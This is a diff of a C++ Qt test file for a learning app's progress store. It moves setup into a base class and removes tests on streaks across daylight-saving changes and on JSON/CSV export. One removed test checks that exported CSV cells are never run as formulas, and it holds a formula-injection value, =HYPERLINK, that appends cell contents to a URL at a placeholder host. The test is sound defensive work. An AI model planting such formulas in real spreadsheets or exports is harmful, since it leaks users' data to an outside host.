@@ -1,76 +1,17 @@
-// Every figure the progress store derives, against a real SQLite file in a temporary directory.
-// Runs with TZ=Europe/Stockholm (pausa_add_test): DST starts 2026-03-29, ends 2026-10-25.
-#include <QJsonArray>
-#include <QJsonDocument>
-#include <QJsonObject>
-#include <QStandardPaths>
-#include <QTemporaryDir>
-#include <QTimeZone>
-#include <QTest>
+// Every figure the progress store derives from lessons and quizzes, against a real SQLite file in a
+// temporary directory; its days and streaks are in tst_progressdays, its exports in tst_progressexport.
+#include "progressstorecase.h"
 
-#include "progress/progressstore.h"
+#include <QDir>
 
-#include <ctime>
-
-using Structure = QList<ProgressStore::ModuleStructure>;
-using Kind = ProgressStore::ResumePoint::Kind;
-
-namespace {
-
-const QString course = QStringLiteral("kurs");
-
-// Local wall-clock time (Europe/Stockholm under ctest).
-QDateTime local(int month, int day, int hour, int minute = 0, int year = 2026)
-{
-    return QDateTime(QDate(year, month, day), QTime(hour, minute));
-}
-
-} // namespace
-
-class TestProgressStore : public QObject
+class TestProgressStore : public ProgressStoreCase
 {
     Q_OBJECT
 
-    QTemporaryDir *m_dir = nullptr;
-    ProgressStore *m_store = nullptr;
-
-    bool complete(const QString &module, const QString &lesson, int seconds, const QDateTime &at)
-    {
-        return m_store->recordLessonOpened(course, module, lesson, at.addSecs(-seconds))
-            && m_store->recordLessonCompleted(course, module, lesson, seconds, at);
-    }
-    qint64 quiz(const QString &module, double percent, int seconds, const QDateTime &at)
-    {
-        const qint64 id = m_store->startQuizAttempt(course, module, module + QStringLiteral("-quiz"), at);
-        return id > 0 && m_store->finishQuizAttempt(id, percent, percent >= 80, seconds, at.addSecs(seconds)) ? id : -1;
-    }
-
 private Q_SLOTS:
-    void initTestCase()
-    {
-        QStandardPaths::setTestModeEnabled(true);
-        // ctest sets it (pausa_add_test); this makes a direct run of the binary mean the same.
-        qputenv("TZ", "Europe/Stockholm");
-        tzset();
-        QCOMPARE(QDateTime(QDate(2026, 7, 1), QTime(12, 0)).offsetFromUtc(), 2 * 3600);
-    }
-
-    void init()
-    {
-        m_dir = new QTemporaryDir;
-        QVERIFY(m_dir->isValid());
-        m_store = new ProgressStore;
-        const auto opened = m_store->open(m_dir->path());
-        QCOMPARE(opened.status, ProgressStore::OpenResult::Status::Created);
-        QVERIFY(opened.message.isEmpty());
-        QVERIFY(m_store->isPersistent());
-    }
-
-    void cleanup()
-    {
-        delete m_store;
-        delete m_dir;
-    }
+    void initTestCase() { pinTimeZone(); }
+    void init() { openStore(); }
+    void cleanup() { closeStore(); }
 
     void lessonsFollowTheCurrentCourse()
     {
@@ -164,50 +105,6 @@ private Q_SLOTS:
         QCOMPARE(p.questionsCorrect, 1);
     }
 
-    void streakOverAMonthEnd()
-    {
-        for (const QDateTime &at : {local(1, 30, 20), local(1, 31, 7), local(2, 1, 23, 59), local(2, 2, 0, 1)})
-            QVERIFY(m_store->recordBreathingSession(QStringLiteral("box"), 60, true, at));
-        QCOMPARE(m_store->streakDays(QDate(2026, 2, 2)), 4);
-        QCOMPARE(m_store->streakDays(QDate(2026, 2, 3)), 4); // nothing yet today: still counts to yesterday
-        QCOMPARE(m_store->streakDays(QDate(2026, 2, 4)), 0);
-        QCOMPARE(m_store->streakDays(QDate(2026, 1, 31)), 2); // later days do not count back
-        QVERIFY(m_store->recordLessonOpened(course, QStringLiteral("m"), QStringLiteral("l"), local(1, 28, 12)));
-        QCOMPARE(m_store->streakDays(QDate(2026, 2, 2)), 4); // the 29th is a gap
-        QCOMPARE(m_store->activeDays(QDate(2026, 1, 29), QDate(2026, 2, 1)),
-                 (QList<QDate>{QDate(2026, 1, 30), QDate(2026, 1, 31), QDate(2026, 2, 1)}));
-    }
-
-    void streakOverTheSpringDstChange()
-    {
-        // 2026-03-29 02:00 CET -> 03:00 CEST: a 23-hour day.
-        QVERIFY(m_store->recordLessonOpened(course, QStringLiteral("m"), QStringLiteral("l"), local(3, 28, 0, 30)));
-        // 23:30 UTC on the 28th is 00:30 on the 29th in Stockholm: the learner's day is the 29th.
-        const QDateTime utc(QDate(2026, 3, 28), QTime(23, 30), QTimeZone::utc());
-        QVERIFY(m_store->recordCardReached(course, QStringLiteral("m"), QStringLiteral("l"), 1, utc));
-        // 00:05 on the 30th is only 22 h 35 min after 00:30 on the 29th (the day had 23 hours):
-        // counting 24-hour periods would merge the two days; counting calendar dates does not.
-        QVERIFY(m_store->recordCardReached(course, QStringLiteral("m"), QStringLiteral("l"), 2, local(3, 30, 0, 5)));
-        QCOMPARE(m_store->activeDays(QDate(2026, 3, 27), QDate(2026, 3, 31)),
-                 (QList<QDate>{QDate(2026, 3, 28), QDate(2026, 3, 29), QDate(2026, 3, 30)}));
-        QCOMPARE(m_store->streakDays(QDate(2026, 3, 30)), 3);
-        QCOMPARE(m_store->streakDays(QDate(2026, 3, 31)), 3);
-    }
-
-    void streakOverTheAutumnDstChange()
-    {
-        // 2026-10-25 03:00 CEST -> 02:00 CET: a 25-hour day, 02:30 happens twice.
-        QVERIFY(m_store->recordBreathingSession(QStringLiteral("box"), 60, true, local(10, 24, 23, 50)));
-        const QDateTime secondHalfPast2(QDate(2026, 10, 25), QTime(1, 30), QTimeZone::utc()); // 02:30 CET
-        QVERIFY(m_store->recordBreathingSession(QStringLiteral("box"), 60, true, secondHalfPast2));
-        // 00:10 on the 26th is more than 24 hours after 23:50 on the 24th but still the next-but-one day.
-        QVERIFY(m_store->recordBreathingSession(QStringLiteral("box"), 60, false, local(10, 26, 0, 10)));
-        QCOMPARE(m_store->activeDays(QDate(2026, 10, 24), QDate(2026, 10, 26)),
-                 (QList<QDate>{QDate(2026, 10, 24), QDate(2026, 10, 25), QDate(2026, 10, 26)}));
-        QCOMPARE(m_store->streakDays(QDate(2026, 10, 26)), 3);
-        QCOMPARE(m_store->breathingSeconds(), 180); // completed or not, the time breathed counts
-    }
-
     void resumePointKinds()
     {
         QCOMPARE(m_store->resumePoint(course).kind, Kind::None);
@@ -290,93 +187,6 @@ private Q_SLOTS:
         QVERIFY(!closed.recordLessonOpened(course, QStringLiteral("m"), QStringLiteral("a")));
         QVERIFY(!closed.lastError().isEmpty());
         QCOMPARE(closed.startQuizAttempt(course, QStringLiteral("m"), QStringLiteral("q")), qint64(-1));
-    }
-
-    void recentActivityNewestFirst()
-    {
-        QVERIFY(m_store->recordCardReached(course, QStringLiteral("m1"), QStringLiteral("a"), 7, local(7, 1, 9)));
-        QVERIFY(m_store->recordBreathingSession(QStringLiteral("box"), 95, true, local(7, 1, 8))); // recorded late
-        QVERIFY(m_store->recordLessonCompleted(course, QStringLiteral("m1"), QStringLiteral("a"), 120, local(7, 1, 10)));
-        const auto recent = m_store->recentActivity(2);
-        QCOMPARE(recent.size(), 2);
-        QCOMPARE(recent[0].kind, QStringLiteral("lesson_completed"));
-        QCOMPARE(recent[0].value, 120.0);
-        QCOMPARE(recent[0].at, local(7, 1, 10));
-        QCOMPARE(recent[1].kind, QStringLiteral("card_reached"));
-        QCOMPARE(recent[1].courseId, course);
-        QCOMPARE(recent[1].moduleId, QStringLiteral("m1"));
-        QCOMPARE(recent[1].itemId, QStringLiteral("a"));
-        QCOMPARE(recent[1].value, 7.0);
-        QCOMPARE(m_store->recentActivity(10).last().itemId, QStringLiteral("box"));
-    }
-
-    void exportJsonAndCsv()
-    {
-        QVERIFY(m_store->recordCardReached(course, QStringLiteral("m1"), QStringLiteral("a"), 2, local(3, 29, 1, 30)));
-        const qint64 id = m_store->startQuizAttempt(course, QStringLiteral("m1"), QStringLiteral("quiz"), local(3, 29, 4));
-        const QString response = QStringLiteral("{\"text\":\"ja, \\\"kanske\\\"\\nnej\"}");
-        QVERIFY(m_store->recordQuizAnswer(id, QStringLiteral("q1"), 0.5, response, local(3, 29, 4, 1)));
-        QVERIFY(m_store->recordBreathingSession(QStringLiteral("box"), 64, false, local(3, 29, 5)));
-
-        const QString jsonPath = m_dir->filePath(QStringLiteral("export.json"));
-        QVERIFY(m_store->exportJson(jsonPath));
-        QFile jsonFile(jsonPath);
-        QVERIFY(jsonFile.open(QIODevice::ReadOnly));
-        QJsonParseError error{};
-        const QJsonObject root = QJsonDocument::fromJson(jsonFile.readAll(), &error).object();
-        QCOMPARE(error.error, QJsonParseError::NoError);
-        QCOMPARE(root.value(QStringLiteral("format")).toString(), QStringLiteral("pausa-progress"));
-        QCOMPARE(root.value(QStringLiteral("schemaVersion")).toInt(), ProgressStore::schemaVersion());
-        const QJsonArray events = root.value(QStringLiteral("events")).toArray();
-        QCOMPARE(events.size(), 4);
-        const QJsonObject card = events[0].toObject();
-        QCOMPARE(card.value(QStringLiteral("kind")).toString(), QStringLiteral("card_reached"));
-        QCOMPARE(card.value(QStringLiteral("at")).toString(), QStringLiteral("2026-03-29T00:30:00.000Z")); // CET
-        QCOMPARE(card.value(QStringLiteral("localDay")).toString(), QStringLiteral("2026-03-29"));
-        QCOMPARE(card.value(QStringLiteral("cardIndex")).toInt(), 2);
-        QVERIFY(!card.contains(QStringLiteral("attemptId")));
-        const QJsonObject answer = events[2].toObject();
-        QCOMPARE(answer.value(QStringLiteral("at")).toString(), QStringLiteral("2026-03-29T02:01:00.000Z")); // CEST
-        QCOMPARE(answer.value(QStringLiteral("attemptId")).toInteger(), id);
-        QCOMPARE(answer.value(QStringLiteral("itemId")).toString(), QStringLiteral("q1"));
-        QCOMPARE(answer.value(QStringLiteral("value")).toDouble(), 0.5);
-        QCOMPARE(answer.value(QStringLiteral("response")).toString(), response);
-        QCOMPARE(events[3].toObject().value(QStringLiteral("flag")).toBool(true), false);
-        QCOMPARE(events[3].toObject().value(QStringLiteral("seconds")).toInt(), 64);
-
-        const QString csvPath = m_dir->filePath(QStringLiteral("export.csv"));
-        QVERIFY(m_store->exportCsv(csvPath));
-        QFile csvFile(csvPath);
-        QVERIFY(csvFile.open(QIODevice::ReadOnly));
-        const QByteArray csv = csvFile.readAll();
-        const QList<QByteArray> lines = csv.split('\n');
-        QCOMPARE(lines[0], QByteArray("id,at_utc,local_day,kind,course_id,module_id,item_id,attempt_id,card_index,"
-                                      "seconds,value,flag,response\r"));
-        QCOMPARE(lines[1], QByteArray("1,2026-03-29T00:30:00.000Z,2026-03-29,card_reached,kurs,m1,a,,2,,,,\r"));
-        const QByteArray answerRow = QByteArray(",quiz_answer,kurs,m1,q1,") + QByteArray::number(id)
-            + ",,,0.5,,\"{\"\"text\"\":\"\"ja, \\\"\"kanske\\\"\"\\nnej\"\"}\"\r\n";
-        QVERIFY2(csv.contains(answerRow), csv.constData());
-        QVERIFY(csv.endsWith(",breathing,,,box,,,64,,0,\r\n"));
-    }
-
-    // A quiz title such as =HYPERLINK(…) reaches the CSV as a question id; a spreadsheet must show it as
-    // text, not run it. Number cells are never changed.
-    void csvCellsAreNeverFormulas()
-    {
-        const qint64 id = m_store->startQuizAttempt(course, QStringLiteral("+m1"), QStringLiteral("quiz"), local(3, 29, 4));
-        QVERIFY(m_store->recordQuizAnswer(id, QStringLiteral("=HYPERLINK(\"https://x.test/?\"&A1;\"klicka\")"), 0.5,
-                                          QStringLiteral("@SUM(1)"), local(3, 29, 4, 1)));
-        QVERIFY(m_store->recordQuizAnswer(id, QStringLiteral("-2+3"), 1, QStringLiteral("{}"), local(3, 29, 4, 2)));
-        const QString csvPath = m_dir->filePath(QStringLiteral("formulas.csv"));
-        QVERIFY(m_store->exportCsv(csvPath));
-        QFile csvFile(csvPath);
-        QVERIFY(csvFile.open(QIODevice::ReadOnly));
-        const QByteArray csv = csvFile.readAll();
-        const QByteArray first = QByteArray(",quiz_answer,kurs,'+m1,\"'=HYPERLINK(\"\"https://x.test/?\"\"&A1;\"\"klicka\"\")\",")
-            + QByteArray::number(id) + ",,,0.5,,'@SUM(1)\r\n";
-        QVERIFY2(csv.contains(first), csv.constData());
-        const QByteArray second = ",quiz_answer,kurs,'+m1,'-2+3," + QByteArray::number(id) + ",,,1,,{}\r\n";
-        QVERIFY2(csv.contains(second), csv.constData());
     }
 
     void resetKeepsTheSchema()
